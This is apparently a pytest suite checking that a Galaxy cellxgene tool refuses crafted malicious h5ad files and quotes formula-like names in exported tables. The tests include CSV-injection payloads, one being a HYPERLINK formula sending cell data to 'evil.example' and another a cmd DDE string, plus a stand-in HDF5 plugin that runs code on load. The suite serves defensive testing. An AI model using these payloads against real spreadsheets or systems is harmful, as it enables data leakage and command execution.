"""Crafted datasets of issue 22: every command refuses them in seconds, in one line naming the
problem, with exit code 2, no traceback and no death by a signal; nothing of the outside file
reaches any output.

Each file is made by the test (hostile_h5ad.py) from the good twin, changed in one part. The
bound "within seconds" is the subprocess timeout (a hang fails the test), not a timed assertion.
"""

from __future__ import annotations

import contextlib
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from galaxy_cellxgene.store_cache import CACHE_ENV
from galaxy_cellxgene_testkit.hostile_h5ad import (
    CANARY,
    SPARSE_FAULTS,
    USER_DEFINED_LINK_TYPE,
    make,
    make_codes_out_of_range,
    make_deep,
    make_huge_dense,
    make_huge_sparse,
    make_huge_uns,
    make_legacy,
    make_sparse,
    make_unavailable_filter,
    make_user_defined_link,
)
from support.fixtures import TOOL_DIR, start_job
from support.held_store import UUID, another_job_building
from support.safety import uncaught

ENV = {"PYTHONPATH": str(TOOL_DIR), "PATH": "/usr/bin:/bin"}
SECONDS = 30  # every refusal comes from metadata: a hang or a watchdog ends the test red


_started: list = []


@pytest.fixture(autouse=True)
def _end_every_view():
    """A view that is not refused (as before the fix) would serve until killed: end it here."""
    yield
    while _started:
        job = _started.pop()
        with contextlib.suppress(ProcessLookupError):
            job.send(signal.SIGKILL)
        with contextlib.suppress(subprocess.TimeoutExpired):
            job.wait(10)


def view(tmp_path: Path, path: Path, *extra: str, env: dict | None = None):
    job = start_job(tmp_path, path, *extra, env=env, wait_ready=False)
    _started.append(job)
    return job


def cli(*args, env: dict | None = None, timeout: float = SECONDS) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "galaxy_cellxgene", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**ENV, **(env or {})},
    )


def error_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("ERROR:")]


def assert_refusal(returncode: int, stderr: str, *phrases: str) -> str:
    """Exit 2 (not a signal, not 70), one ERROR line holding every phrase, no traceback, no canary."""
    assert returncode == 2, f"exit {returncode}:\n{stderr}"
    lines = error_lines(stderr)
    assert len(lines) == 1, stderr
    for phrase in phrases:
        assert phrase in lines[0], lines[0]
    assert "internal error" not in stderr
    assert uncaught(stderr) == [], stderr
    assert CANARY not in stderr
    return lines[0]


def check_merge_view(path: Path, tmp_path: Path, *phrases: str, env: dict | None = None) -> None:
    result = cli("check", path, "--report", tmp_path / "report.md", env=env)
    assert_refusal(result.returncode, result.stderr, *phrases)
    out = tmp_path / "merged.h5ad"
    result = cli("merge", path, "--output", out, env=env)
    assert_refusal(result.returncode, result.stderr, *phrases)
    assert not out.exists()
    job = view(tmp_path, path, env=env)
    rc = job.wait(SECONDS)
    assert_refusal(rc, job.log, *phrases)
    assert not (job.job_dir / "container_runtime.json").exists()  # never served


# 1. Objects no link reaches, dereferenced through anndata 0.7's categories reference.


def test_legacy_categories_inside_their_frame_pass(tmp_path: Path) -> None:
    """The one reference anndata writes (0.7: codes -> obs/__categories/<column>) is not refused."""
    path = make_legacy(tmp_path, None)
    result = cli("check", path, "--report", tmp_path / "r.md")
    assert result.returncode == 0, result.stderr
    assert "categorical, 3 values" in (tmp_path / "r.md").read_text()


@pytest.mark.parametrize("target", ["external storage", "virtual dataset", "var frame"])
def test_a_reference_out_of_its_frame_is_refused(tmp_path: Path, target: str) -> None:
    path = make_legacy(tmp_path, target)
    phrase = "obs column 'cell_type': its categories point to an object outside the obs frame"
    check_merge_view(path, tmp_path, phrase)
    result = cli("check", path, "--obs-names", "cell_type")
    assert_refusal(result.returncode, result.stderr, phrase)


def test_view_many_refuses_a_reference_out_of_its_frame(tmp_path: Path) -> None:
    path = make_legacy(tmp_path, "external storage")
    result = cli(
        "view-many", "--dataset", f"crafted={path}", "--annotations-dir", tmp_path / "a",
        "--gene-sets-dir", tmp_path / "g", "--work-dir", tmp_path / "w", "--register", "never",
    )  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert "its categories point to an object outside the obs frame" in result.stderr
    assert CANARY not in result.stdout + result.stderr


# 3. Deep nesting.


def test_deep_nesting_is_refused_in_seconds(tmp_path: Path) -> None:
    path = make_deep(tmp_path)
    check_merge_view(
        path, tmp_path, "uns entry 'nest' (/uns/nest/n/n/.../n, 65 levels) nests groups more than 64 levels deep"
    )


# 4. A small file declaring a huge X (unwritten chunks read as zeros).


def test_declared_size_the_file_does_not_store_is_refused(tmp_path: Path) -> None:
    path = make_huge_dense(tmp_path, stored=False)
    assert path.stat().st_size < 4 << 20  # the file is small; the X it declares is not
    check_merge_view(path, tmp_path, "X declares 2.2 GiB of values but stores 0 bytes of them")


# 5. Filters HDF5 lacks.


def test_an_unavailable_filter_is_refused_by_name(tmp_path: Path) -> None:
    path = make_unavailable_filter(tmp_path)
    check_merge_view(path, tmp_path, "uns entry 'packed'", "HDF5 filter 'blosc' (id 32001)")


# 6. User-defined links.


def test_a_user_defined_link_is_a_named_refusal(tmp_path: Path) -> None:
    path = make_user_defined_link(tmp_path)
    check_merge_view(
        path, tmp_path, f"obs column 'louvain' is a user-defined HDF5 link (link type {USER_DEFINED_LINK_TYPE})"
    )


def test_the_good_twin_of_every_crafted_file_passes(tmp_path: Path) -> None:
    result = cli("check", make(tmp_path, "good"))
    assert result.returncode == 0, result.stderr


# 2. Malformed sparse X: refused before scipy (tocsc, slicing) runs on it; view never falls back.

SPARSE_PHRASES = {
    "index-out-of-range": "X is not a well-formed CSR sparse matrix: it names column 1000000, outside 0..29",
    "negative-index": "X is not a well-formed CSR sparse matrix: it names column -5, outside 0..29",
    "indptr-decreasing": "X is not a well-formed CSR sparse matrix: its index pointer decreases at entry",
    "indptr-past-data": "X is not a well-formed CSR sparse matrix: its index pointer ends at",
}
POINTER_FAULTS = ("indptr-decreasing", "indptr-past-data")  # found by every check, in O(cells)


@pytest.mark.parametrize("fault", POINTER_FAULTS)
def test_a_malformed_index_pointer_is_refused_by_every_check(tmp_path: Path, fault: str) -> None:
    path = make_sparse(tmp_path, fault)
    check_merge_view(path, tmp_path, SPARSE_PHRASES[fault])


def test_a_malformed_x_found_while_the_cells_are_served_ends_the_job(tmp_path: Path) -> None:
    """The copy is held back (another job builds the shared store) so the cells are served first;
    once it runs, its pass refuses X: the job ends with exit 2 naming X, within the time a refusal
    takes, and never reads X again (found in CI: the distribution estimate went on reading the
    refused X in a daemon thread, and the process hung at exit on h5py's lock)."""
    path = make_sparse(tmp_path, "index-out-of-range")
    env = {CACHE_ENV: str(tmp_path / "cache")}
    with another_job_building(tmp_path / "cache"):
        job = start_job(tmp_path, path, "--x-store", "disk", "--dataset-uuid", UUID, env=env)
        _started.append(job)
        assert job.proc.poll() is None, job.log  # serving the cells while the copy waits
    rc = job.wait(SECONDS)
    assert_refusal(rc, job.log, SPARSE_PHRASES["index-out-of-range"])
    assert "ending the view, the input was refused" in job.log


@pytest.mark.parametrize("store", ["memory", "disk"])
@pytest.mark.parametrize("fault", sorted(SPARSE_FAULTS))
def test_view_refuses_a_malformed_x_before_any_compiled_routine(tmp_path: Path, fault: str, store: str) -> None:
    """Column numbers are checked in the copy's own pass (memory blocks or the disk copy): view
    ends with exit 2 naming X, not SIGSEGV in scipy. The page may have been served meanwhile
    (the early front reads obs and the embeddings, never X): X itself never is."""
    path = make_sparse(tmp_path, fault)
    job = view(tmp_path, path, "--x-store", store)
    rc = job.wait(SECONDS)
    assert rc >= 0, f"killed by signal {-rc}:\n{job.log}"
    assert_refusal(rc, job.log, SPARSE_PHRASES[fault])
    assert "cellxgene loaded" not in job.log or "ending the view, the input was refused" in job.log


def test_view_with_cellxgene_reading_a_malformed_x_itself_is_refused(tmp_path: Path) -> None:
    """An integer X is read by cellxgene itself (no copy pass): the column numbers are checked first."""
    path = make_sparse(tmp_path, "index-out-of-range")
    import h5py

    with h5py.File(path, "r+") as f:
        data = f["X/data"][()].astype("int32")
        del f["X/data"]
        f["X/data"] = data
    job = view(tmp_path, path)
    assert_refusal(job.wait(SECONDS), job.log, SPARSE_PHRASES["index-out-of-range"])


# 4b. A well-formed X of 150 M stored zeros in under a megabyte, and a 2.2 GiB dense X of stored
# (deflated) zeros: bounded by the job's memory and the copy's disk cap, refused with the figures.


def test_a_huge_stored_sparse_x_is_refused_by_the_copy_disk_cap(tmp_path: Path) -> None:
    path = make_huge_sparse(tmp_path)
    assert path.stat().st_size < 4 << 20
    job = view(tmp_path, path, env={"GALAXY_MEMORY_MB": "512"})
    line = assert_refusal(job.wait(SECONDS), job.log, "X stores 150,000,000 values", "over this job's cap")
    assert "GALAXY_CELLXGENE_COPY_DISK_MB" in line
    assert not list((job.job_dir / "working").rglob("*.columns.h5*"))


def test_a_huge_stored_dense_x_is_refused_within_the_memory_budget(tmp_path: Path) -> None:
    path = make_huge_dense(tmp_path, stored=True)
    assert path.stat().st_size < 8 << 20
    job = view(tmp_path, path, env={"GALAXY_MEMORY_MB": "512"})
    assert_refusal(job.wait(SECONDS), job.log, "takes 2,289 MiB in memory, over 50% of the job's 512 MiB")


def test_a_huge_stored_uns_is_refused_within_the_memory_budget(tmp_path: Path) -> None:
    path = make_huge_uns(tmp_path)
    assert path.stat().st_size < 4 << 20
    job = view(tmp_path, path, env={"GALAXY_MEMORY_MB": "512"})
    assert_refusal(job.wait(SECONDS), job.log, "uns holds 1,024 MiB of values, over 25% of the job's 512 MiB")


# 6b. Categorical codes out of range.


@pytest.mark.parametrize("code", [7, -5])
def test_categorical_codes_out_of_range_are_refused(tmp_path: Path, code: int) -> None:
    path = make_codes_out_of_range(tmp_path, code)
    check_merge_view(path, tmp_path, f"obs column 'cell_type' has the category code {code}, but it has 3 categories")


# 6c. Names a spreadsheet would run as formulas, in the exported differential-expression table.


def test_diffexp_table_quotes_names_a_spreadsheet_would_run() -> None:
    """Gene and set names starting with = + - @ (also after a tab or line break, which become
    spaces) get a leading ' (OWASP); numbers, negative ones included, and plain names stay."""
    import csv
    import io

    from galaxy_cellxgene.diffexp_export import Comparison

    rows = [
        ('=HYPERLINK("http://evil.example/?"&A1,"CD4")', -1.5, 0.01, 0.02, "=cmd|' /C calc'!A0"),
        ("+SUM(1,2)", 2.0, 0.5, 1.0, "@SUM(A1)"),
        ("-2+3", 0.3, 0.1, 0.2, "\t=1+1"),
        ("CD4", -0.25, 1e-300, 0.0, "T cells"),
    ]
    table = Comparison(1, "k", "=set one", "B cells", rows).table()
    parsed = list(csv.reader(io.StringIO(table), delimiter="\t"))
    assert parsed[1][0] == "'" + rows[0][0]
    assert parsed[1][1:4] == ["-1.5", "0.01", "0.02"]
    assert parsed[1][4] == "'=cmd|' /C calc'!A0"
    assert parsed[1][5:] == ["'=set one", "B cells"]
    assert [parsed[2][0], parsed[2][4]] == ["'+SUM(1,2)", "'@SUM(A1)"]
    assert [parsed[3][0], parsed[3][4]] == ["'-2+3", "' =1+1"]
    assert parsed[4][:2] == ["CD4", "-0.25"] and parsed[4][4] == "T cells"
    for row in parsed[1:]:
        for cell in row[:1] + row[4:]:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@")), cell


def test_the_walk_refuses_nothing_in_pre_07_files_and_files_without_x(tmp_path: Path) -> None:
    """anndata < 0.7 stored obs/var as structured arrays (compound types, no references), and
    anndata writes no X when X is None: both are legitimate and pass the scan."""
    import h5py
    import numpy as np
    from galaxy_cellxgene.containment import outside_references

    old = tmp_path / "pre07.h5ad"
    rows = np.array([(b"c1", 1.0), (b"c2", 2.0)], dtype=[("index", "S8"), ("n_genes", "<f4")])
    with h5py.File(old, "w") as f:
        f.create_dataset("obs", data=rows)
        f.create_dataset("var", data=np.array([(b"g1",)], dtype=[("index", "S8")]))
        f.create_dataset("X", data=np.ones((2, 1), dtype="<f4"))
        f.create_dataset("obsm", data=np.zeros(2, dtype=[("X_umap", "<f4", (2,))]))
    no_x = make(tmp_path, "good")
    with h5py.File(no_x, "r+") as f:
        f.require_group("layers").create_dataset("counts", data=f["X"][()])
        del f["X"]
    assert outside_references(old) == []
    assert outside_references(no_x) == []


PLUGIN = r"""
#include <stdio.h>
__attribute__((constructor)) static void loaded(void) {
    FILE *f = fopen(MARKER, "w");
    if (f) { fputs("plugin code ran", f); fclose(f); }
}
"""
READ_FILTERED = """
import sys
if sys.argv[2] == "runtime":
    import galaxy_cellxgene.__main__  # the tool's entry module, without running a command
import h5py
with h5py.File(sys.argv[1], "r") as f:
    try:
        f["uns/packed"][()]
    except OSError as err:
        print("refused:", type(err).__name__)
"""


@pytest.mark.parametrize("entry_module", ["runtime", "plain-h5py"])
def test_no_plugin_library_is_loaded_for_a_missing_filter(tmp_path: Path, entry_module: str) -> None:
    """A job inherits HDF5_PLUGIN_PATH (conda activation sets it). Under the runtime's entry module
    HDF5 loads no library from it when a dataset names a filter it lacks; under plain h5py the same
    read runs the library's code, which shows what the entry module stops."""
    import shutil

    if shutil.which("gcc") is None:
        pytest.skip("needs gcc to build the stand-in plugin library")
    marker = tmp_path / "plugin-ran"
    plugins = tmp_path / "plugins"
    plugins.mkdir()
    source = tmp_path / "plugin.c"
    source.write_text(PLUGIN.replace("MARKER", f'"{marker}"'))
    subprocess.run(
        ["gcc", "-shared", "-fPIC", "-o", str(plugins / "libh5evil.so"), str(source)], check=True, timeout=60
    )
    path = make_unavailable_filter(tmp_path)
    result = subprocess.run(
        [sys.executable, "-c", READ_FILTERED, str(path), entry_module],
        capture_output=True,
        text=True,
        timeout=SECONDS,
        env={**ENV, "HDF5_PLUGIN_PATH": str(plugins)},
    )
    assert "refused:" in result.stdout, result.stdout + result.stderr
    assert marker.exists() == (entry_module == "plain-h5py")


def test_more_links_than_any_h5ad_are_refused_in_seconds(tmp_path: Path) -> None:
    from galaxy_cellxgene_testkit.hostile_h5ad import make_wide

    path = make_wide(tmp_path)
    check_merge_view(path, tmp_path, "uns entry 'many' holds more than 200000 HDF5 links and attributes")
